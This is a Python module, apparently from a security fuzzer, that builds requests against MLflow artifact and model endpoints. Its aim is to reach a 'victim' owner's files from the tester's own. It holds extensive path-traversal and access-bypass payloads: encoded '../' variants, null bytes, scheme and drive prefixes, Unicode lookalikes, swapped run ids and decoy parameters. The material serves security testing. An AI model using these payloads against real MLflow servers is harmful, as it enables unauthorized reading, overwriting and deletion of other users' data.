"""Addresses of files: every route that takes one, and the ways to spell one place so that it looks like another."""

from __future__ import annotations

import random
from dataclasses import replace

from drafts import API, FILES, Cast, Change, Draft, Owner, Raw, put_in
from targets import BLANKS, CLOTHES, escaped

OCTETS = [("Content-Type", "application/octet-stream")]
AJAX = "/ajax-api/2.0/mlflow"
PART = {"path": "x", "upload_id": "u", "parts": [{"part_number": 1, "etag": "e"}]}


def plain(cast: Cast) -> list[Draft]:
    """Reads, lists, writes and deletes of what is the victim's; and of what is mine, from where a spelling leads across."""
    return [*of(cast.victim), *of(cast.victim), *of(cast.mine), *across(cast)]


def of(owner: Owner) -> list[Draft]:
    """By every route, the files of one owner."""
    run, model = owner.files, owner.model_files
    whole = [
        f"{run}/note.txt",
        f"{run}/deep/er/note.txt",
        f"{model}/MLmodel",
        run,
        model,
        owner.experiment,
        f"{owner.experiment}/{owner.run}",
        f"{owner.experiment}/models",
    ]
    below = ["note.txt", "deep/er/note.txt", "deep"]
    ids: list[tuple[str, str]] = [("run_id", owner.run), ("run_uuid", owner.run)]
    version: list[tuple[str, str]] = [("name", owner.name), ("version", "1")]
    found = [
        by_path(method, FILES.replace("/api", prefix), path)
        for path in whole
        for method in ("GET", "PUT", "DELETE")
        for prefix in ("/api", "/ajax-api")
    ]
    for path in whole:
        found.append(by_path("GET", "/api/2.0/mlflow-artifacts/presigned/", path))
        found += [by_path("POST", f"/api/2.0/mlflow-artifacts/mpu/{step}/", path) for step in ("create", "complete", "abort")]
        found += [
            by_query("GET", prefix + "/2.0/mlflow-artifacts/artifacts", [], "path", path)
            for prefix in ("/api", "/ajax-api")
            for _ in range(2)
        ]
    for path in below:
        found += [
            by_query("GET", "/get-artifact", ids, "path", path), by_query("GET", API + "/artifacts/list", ids, "path", path),
            by_query("POST", AJAX + "/upload-artifact", ids[1:], "path", path),
            by_body(API + "/artifacts/presigned-download-url", [("run_id", owner.run)], "path", path), by_body(API + "/artifacts/presigned-upload-url", [("run_id", owner.run)], "path", path),
        ]  # fmt: skip
    for path in ("MLmodel", "conda.yaml"):
        found += [
            by_query("GET", "/model-versions/get-artifact", version, "path", path),
            by_query("GET", f"{AJAX}/logged-models/{owner.model_id}/artifacts/files", [], "artifact_file_path", path),
        ]
    found += [
        by_query("GET", f"{AJAX}/logged-models/{owner.model_id}/artifacts/directories", [], "artifact_directory_path", "."),
        by_query("GET", f"{API}/logged-models/{owner.model_id}/artifacts/directories", [], "artifact_directory_path", ""),
        by_query("GET", "/ajax-api/3.0/mlflow/get-trace-artifact", [("request_id", owner.trace)], "path", "attachments/x"),
        by_query("GET", AJAX + "/get-trace-artifact", [("request_id", owner.trace)], "path", ""),
        by_query("GET", "/get-artifact", ids, "path", ""), by_query("GET", API + "/artifacts/list", ids, "path", ""),
    ]  # fmt: skip
    return found


def across(cast: Cast) -> list[Draft]:
    """From mine to the victim's, and a version of mine whose files are the victim's."""
    victim, mine = cast.victim, cast.mine
    steps = "../" * (3 if victim.experiment != mine.experiment else 2)
    away = f"{steps}{victim.experiment + '/' if victim.experiment != mine.experiment else ''}{victim.run}/artifacts/note.txt"
    ids: list[tuple[str, str]] = [("run_id", mine.run), ("run_uuid", mine.run)]
    found = [by_path(method, FILES, f"{mine.files}/{away}") for method in ("GET", "GET", "PUT", "DELETE")]
    found += [
        by_query("GET", "/get-artifact", ids, "path", away),
        by_query("GET", API + "/artifacts/list", ids, "path", away.removesuffix("/note.txt")),
        by_query("POST", AJAX + "/upload-artifact", ids[1:], "path", away),
    ]
    found += [
        by_query("GET", "/api/2.0/mlflow-artifacts/artifacts", [], "path", f"{mine.files}/{away}".removesuffix("/note.txt")),
        by_query("GET", "/model-versions/get-artifact", [("name", mine.name), ("version", "1")], "path", away),
    ]
    found += [
        by_query("GET", f"{AJAX}/logged-models/{mine.model_id}/artifacts/files", [], "artifact_file_path", "../" + away),
        by_path("GET", FILES, ""),
        by_query("GET", "/api/2.0/mlflow-artifacts/artifacts", [], "path", ""),
    ]
    found += [
        by_query("GET", "/get-artifact", [("run_id", mine.run), ("run_uuid", victim.run)], "path", "note.txt"),
        by_query("GET", "/get-artifact", [("run_uuid", mine.run), ("run_id", victim.run)], "path", "note.txt"),
    ]
    sources = (
        f"models:/{victim.name}/1", f"models:/{victim.name}@champion", f"models:/{victim.model_id}", f"runs:/{victim.run}/model", f"mlflow-artifacts:/{victim.files}", f"mlflow-artifacts:/{mine.files}/{away}",
        f"runs:/{mine.run}/{away}", f"{cast.root}/{victim.files}", f"file://{cast.root}/{victim.files}", f"mlflow-artifacts://127.0.0.1/{victim.files}",
    )  # fmt: skip
    for source in sources:
        for fields in ([("run_id", mine.run)], [("model_id", mine.model_id)], [("run_id", victim.run)], []):
            found.append(by_body(API + "/model-versions/create", [("name", mine.name), *fields], "source", source))
    return found


def by_path(method: str, prefix: str, path: str) -> Draft:
    """An address behind a prefix."""
    raw = b"taken" if method == "PUT" else None
    body: list[tuple[str, object]] | None = list(PART.items()) if method == "POST" else None
    return Draft(method, prefix + path, raw_body=raw, body=body, headers=list(OCTETS) if raw else [], address=("path", prefix))


def by_query(method: str, path: str, others: list[tuple[str, str]], key: str, value: str) -> Draft:
    """An address in the query."""
    raw = b"taken" if method == "POST" else None
    return Draft(
        method,
        path,
        query=[*others, (key, value)] if value else list(others),
        raw_body=raw,
        headers=list(OCTETS) if raw else [],
        address=("query", key),
    )


def by_body(path: str, others: list[tuple[str, str]], key: str, value: str) -> Draft:
    """An address in a JSON field."""
    return Draft("POST", path, body=[*others, (key, value)], address=("body", key))


def read(draft: Draft) -> str | None:
    """The address as it is on the wire, without the layer of encoding that its place needs."""
    if draft.address is None:
        return None
    place, name = draft.address
    if place == "path":
        return draft.path[len(name) :] if draft.path.startswith(name) else None
    pairs = draft.query if place == "query" else draft.body or []
    return next((str(value) for key, value in pairs if key == name), "" if place == "query" else None)


def write(draft: Draft, text: str) -> Draft:
    """With another address."""
    place, name = draft.address or ("", "")
    if place == "path":
        return replace(draft, path=name + text)
    if place == "query":
        spelled = Raw(text.replace(" ", "%20").replace("&", "%26"))
        found = any(key == name for key, _ in draft.query)
        return replace(
            draft,
            query=[(key, spelled if key == name else value) for key, value in draft.query] if found else [*draft.query, (name, spelled)],
        )
    return replace(draft, body=[(key, text if key == name else value) for key, value in draft.body or []])


def respell(text: str, chance: random.Random, cast: Cast) -> str:
    """One odd spelling."""
    return chance.choice(SPELLINGS)(text, chance, cast)


def layers(text: str, chance: random.Random, _c: Cast) -> str:
    """Encoded once, twice, or more often than MLflow decodes."""
    return escaped(text, chance, chance.choice((0.05, 0.3, 1.0)), chance.choice((1, 1, 2, 2, 3, 5, 9, 10, 11, 12)))


def dressed(text: str, chance: random.Random, _c: Cast) -> str:
    """The dots and slashes in other clothes, once more encoded now and then."""
    letter = chance.choice("./")
    clothes = chance.choice(CLOTHES[letter])
    clothes = clothes.replace("%", "%25") if chance.random() < 0.3 else clothes
    share = chance.choice((0.3, 1.0))
    return "".join(clothes if c == letter and chance.random() < share else c for c in text)


def steps(text: str, chance: random.Random, _c: Cast) -> str:
    """Segments that are nothing, stay, or lead away and back."""
    parts = text.split("/")
    at = chance.randint(0, len(parts))
    more = chance.choice(
        (
            [""],
            ["."],
            ["", ""],
            ["x", ".."],
            ["%2e"],
            ["x", "%2e%2e"],
            ["x", "%252e%252e"],
            ["x", ".%2e"],
            ["x", "..%20"],
            ["x", "..;"],
            ["x", "..%00"],
            ["x", "%20.."],
            ["x", ".%09."],
            ["x", ".%0d."],
            ["...."],
            ["~"],
            ["..."],
            ["x%2f.."],
            ["x%5c.."],
        )
    )
    return "/".join([*parts[:at], *more, *parts[at:]])


def from_mine(text: str, chance: random.Random, cast: Cast) -> str:
    """Beginning in my own folder, and leading to the same place."""
    up = chance.choice(
        ("..", "%2e%2e", ".%2e", "%252e%252e", "..%00", ".%0a.", "..\\", "%c0%ae%c0%ae", "..;", " ..", "%EF%BC%8E%EF%BC%8E", ".%E2%80%8B.")
    )
    start = chance.choice((cast.mine.files, cast.mine.model_files, cast.mine.experiment, f"{cast.mine.experiment}/{cast.mine.run}"))
    slash = chance.choice(("/", "/", "%2f", "//", "%5c", "%252f"))
    return slash.join([*start.split("/"), *([up] * (start.count("/") + 1)), text])


def behind(text: str, chance: random.Random, _c: Cast) -> str:
    """Something behind it that one reader drops."""
    more = chance.choice(
        (
            "?",
            "#",
            ";",
            "?x",
            "#x",
            ";x",
            "%3f",
            "%23",
            "%3b",
            "%3fx=1",
            "%23x",
            "%253f",
            "%2523",
            "/",
            "//",
            "/.",
            "%2f",
            "%2f.",
            ".",
            "..",
            "%20",
            "%20%20",
            "%09",
            "::$DATA",
            "%3a%3a$DATA",
            "~",
            "*",
            "%00.png",
            "\\",
            "%5c",
            "|",
            "&",
            "&path=x",
            "%26path=x",
            *BLANKS,
        )
    )
    return text + more


def before(text: str, chance: random.Random, cast: Cast) -> str:
    """A scheme, a drive, a root, or blanks before it."""
    more = chance.choice((
        "file:", "file:/", "file://", "file:///", "FILE:", "file%3a", "file%253a", "mlflow-artifacts:/", "mlflow-artifacts://127.0.0.1/", "http://127.0.0.1/", "c:", "C:/", "C:\\", "c%3a", "//", "///", "/", "%2f", "%252f", "./", ".%2f", "\\", "%5c",
        "\\\\host\\", "x:", "s3://b/", "runs:/", "models:/", "data:,", "~/", "$HOME/", "*/../", "?", "%3f", "#", ";", "..", "../", "dbfs:/", "local:", "url:", "jar:file:", f"{cast.root}/", f"file:{cast.root}/", f"%2f{cast.root[1:]}/", *BLANKS,
    ))  # fmt: skip
    return more + text


def inside(text: str, chance: random.Random, _c: Cast) -> str:
    """Blanks, controls and separators amid it; what one reader drops leaves another word."""
    more = chance.choice(
        (
            *BLANKS,
            "%0a",
            "%09",
            "%0d",
            "%250a",
            "%2509",
            "%25250d",
            "%3f",
            "%23",
            "%3b",
            ";",
            "#",
            "?",
            ":",
            "%3a",
            "%25",
            "%",
            "%2",
            "\\",
            "%5c",
            "*",
            "\udcff",
            "\u202e",
            "\u200d",
        )
    )
    return put_in(text, more, chance)


def digits(text: str, chance: random.Random, cast: Cast) -> str:
    """The experiment's number in other digits, or another experiment before it."""
    head, slash, rest = text.partition("/")
    if not head.isdigit():
        return text
    spelled = chance.choice(
        (
            f"0{head}",
            f"+{head}",
            f"{head}.0",
            f"%20{head}",
            f"{head}%20",
            f"%09{head}",
            f"{head}%09",
            f"{head}%00",
            chr(0x660 + int(head) % 10),
            chr(0xFF10 + int(head) % 10),
            f"{cast.mine.experiment}%09/../{head}",
            f"{head}%0a",
            f"%00{head}",
            f"{head};x",
            f"{head}%3b",
            f"{head}?",
            f"00000{head}",
            f"{head}_",
            f"-{head}",
            f"{cast.mine.experiment},{head}",
            f"workspaces/default/{head}",
            f"./workspaces/default/{head}",
        )
    )
    return spelled + slash + rest


def letters(text: str, chance: random.Random, _c: Cast) -> str:
    """Capitals, composed and decomposed letters, wildcards."""
    way = chance.choice(
        (
            str.upper,
            str.swapcase,
            str.title,
            lambda t: t.replace("o", "\u00f6"),
            lambda t: t.replace("o", "o\u0308"),
            lambda t: t.replace("note", "n?te"),
            lambda t: t.replace("note", "*"),
            lambda t: t.replace("e", "\uff45"),
            lambda t: t.replace("i", "\u0131"),
            lambda t: t.replace("f", "\ufb00"),
            lambda t: t.replace("a", "\u00aa"),
        )
    )
    return way(text)


SPELLINGS = (
    layers,
    layers,
    layers,
    dressed,
    dressed,
    steps,
    steps,
    from_mine,
    from_mine,
    behind,
    behind,
    before,
    before,
    inside,
    inside,
    digits,
    digits,
    letters,
)


def spelled(draft: Draft, chance: random.Random, cast: Cast) -> Draft:
    """The address in an odd spelling, or in two at once."""
    text = read(draft)
    if text is None:
        return draft
    for _ in range(chance.choice((1, 1, 2))):
        text = respell(text, chance, cast)
    if draft.address and draft.address[0] != "body" and chance.random() < 0.15:
        text = text.replace("%", "%25")
    return write(draft, text)


def tampered(draft: Draft, chance: random.Random, cast: Cast) -> Draft:
    """Mine and the victim's mixed: the ids of one with the address of the other."""
    text = read(draft)
    if text is None:
        return draft
    victim, mine = cast.victim, cast.mine
    pairs = (
        (victim.run, mine.run),
        (mine.run, victim.run),
        (victim.model_id, mine.model_id),
        (mine.model_id, victim.model_id),
        (victim.files, mine.files),
        (f"{victim.experiment}/", f"{mine.experiment}/"),
    )
    old, new = chance.choice(pairs)
    if chance.random() < 0.5:
        return write(draft, text.replace(old, new))
    swap = [(key, value.replace(old, new) if isinstance(value, str) else value) for key, value in draft.query]
    return replace(
        draft,
        query=[
            (key, Raw(value) if isinstance(before_, Raw) else value) for (key, value), (_, before_) in zip(swap, draft.query, strict=True)
        ],
    )


def decoy(draft: Draft, chance: random.Random, cast: Cast) -> Draft:
    """A second address, of mine, before or behind the first, or in the other place."""
    if draft.address is None:
        return draft
    place, name = draft.address
    mine = cast.mine.files + "/note.txt" if "artifacts/artifacts" in draft.path or place == "path" else "note.txt"
    if place == "query":
        pairs = [*draft.query, (name, mine)] if chance.random() < 0.5 else [(name, mine), *draft.query]
        return replace(draft, query=pairs)
    if place == "body":
        pairs = [*(draft.body or []), (name, mine)] if chance.random() < 0.5 else [(name, mine), *(draft.body or [])]
        return replace(draft, body=pairs)
    return replace(draft, query=[*draft.query, (chance.choice(("path", "artifact_path", "file")), mine)])


ADDRESSES: tuple[Change, ...] = (spelled, spelled, spelled, spelled, spelled, spelled, tampered, decoy)
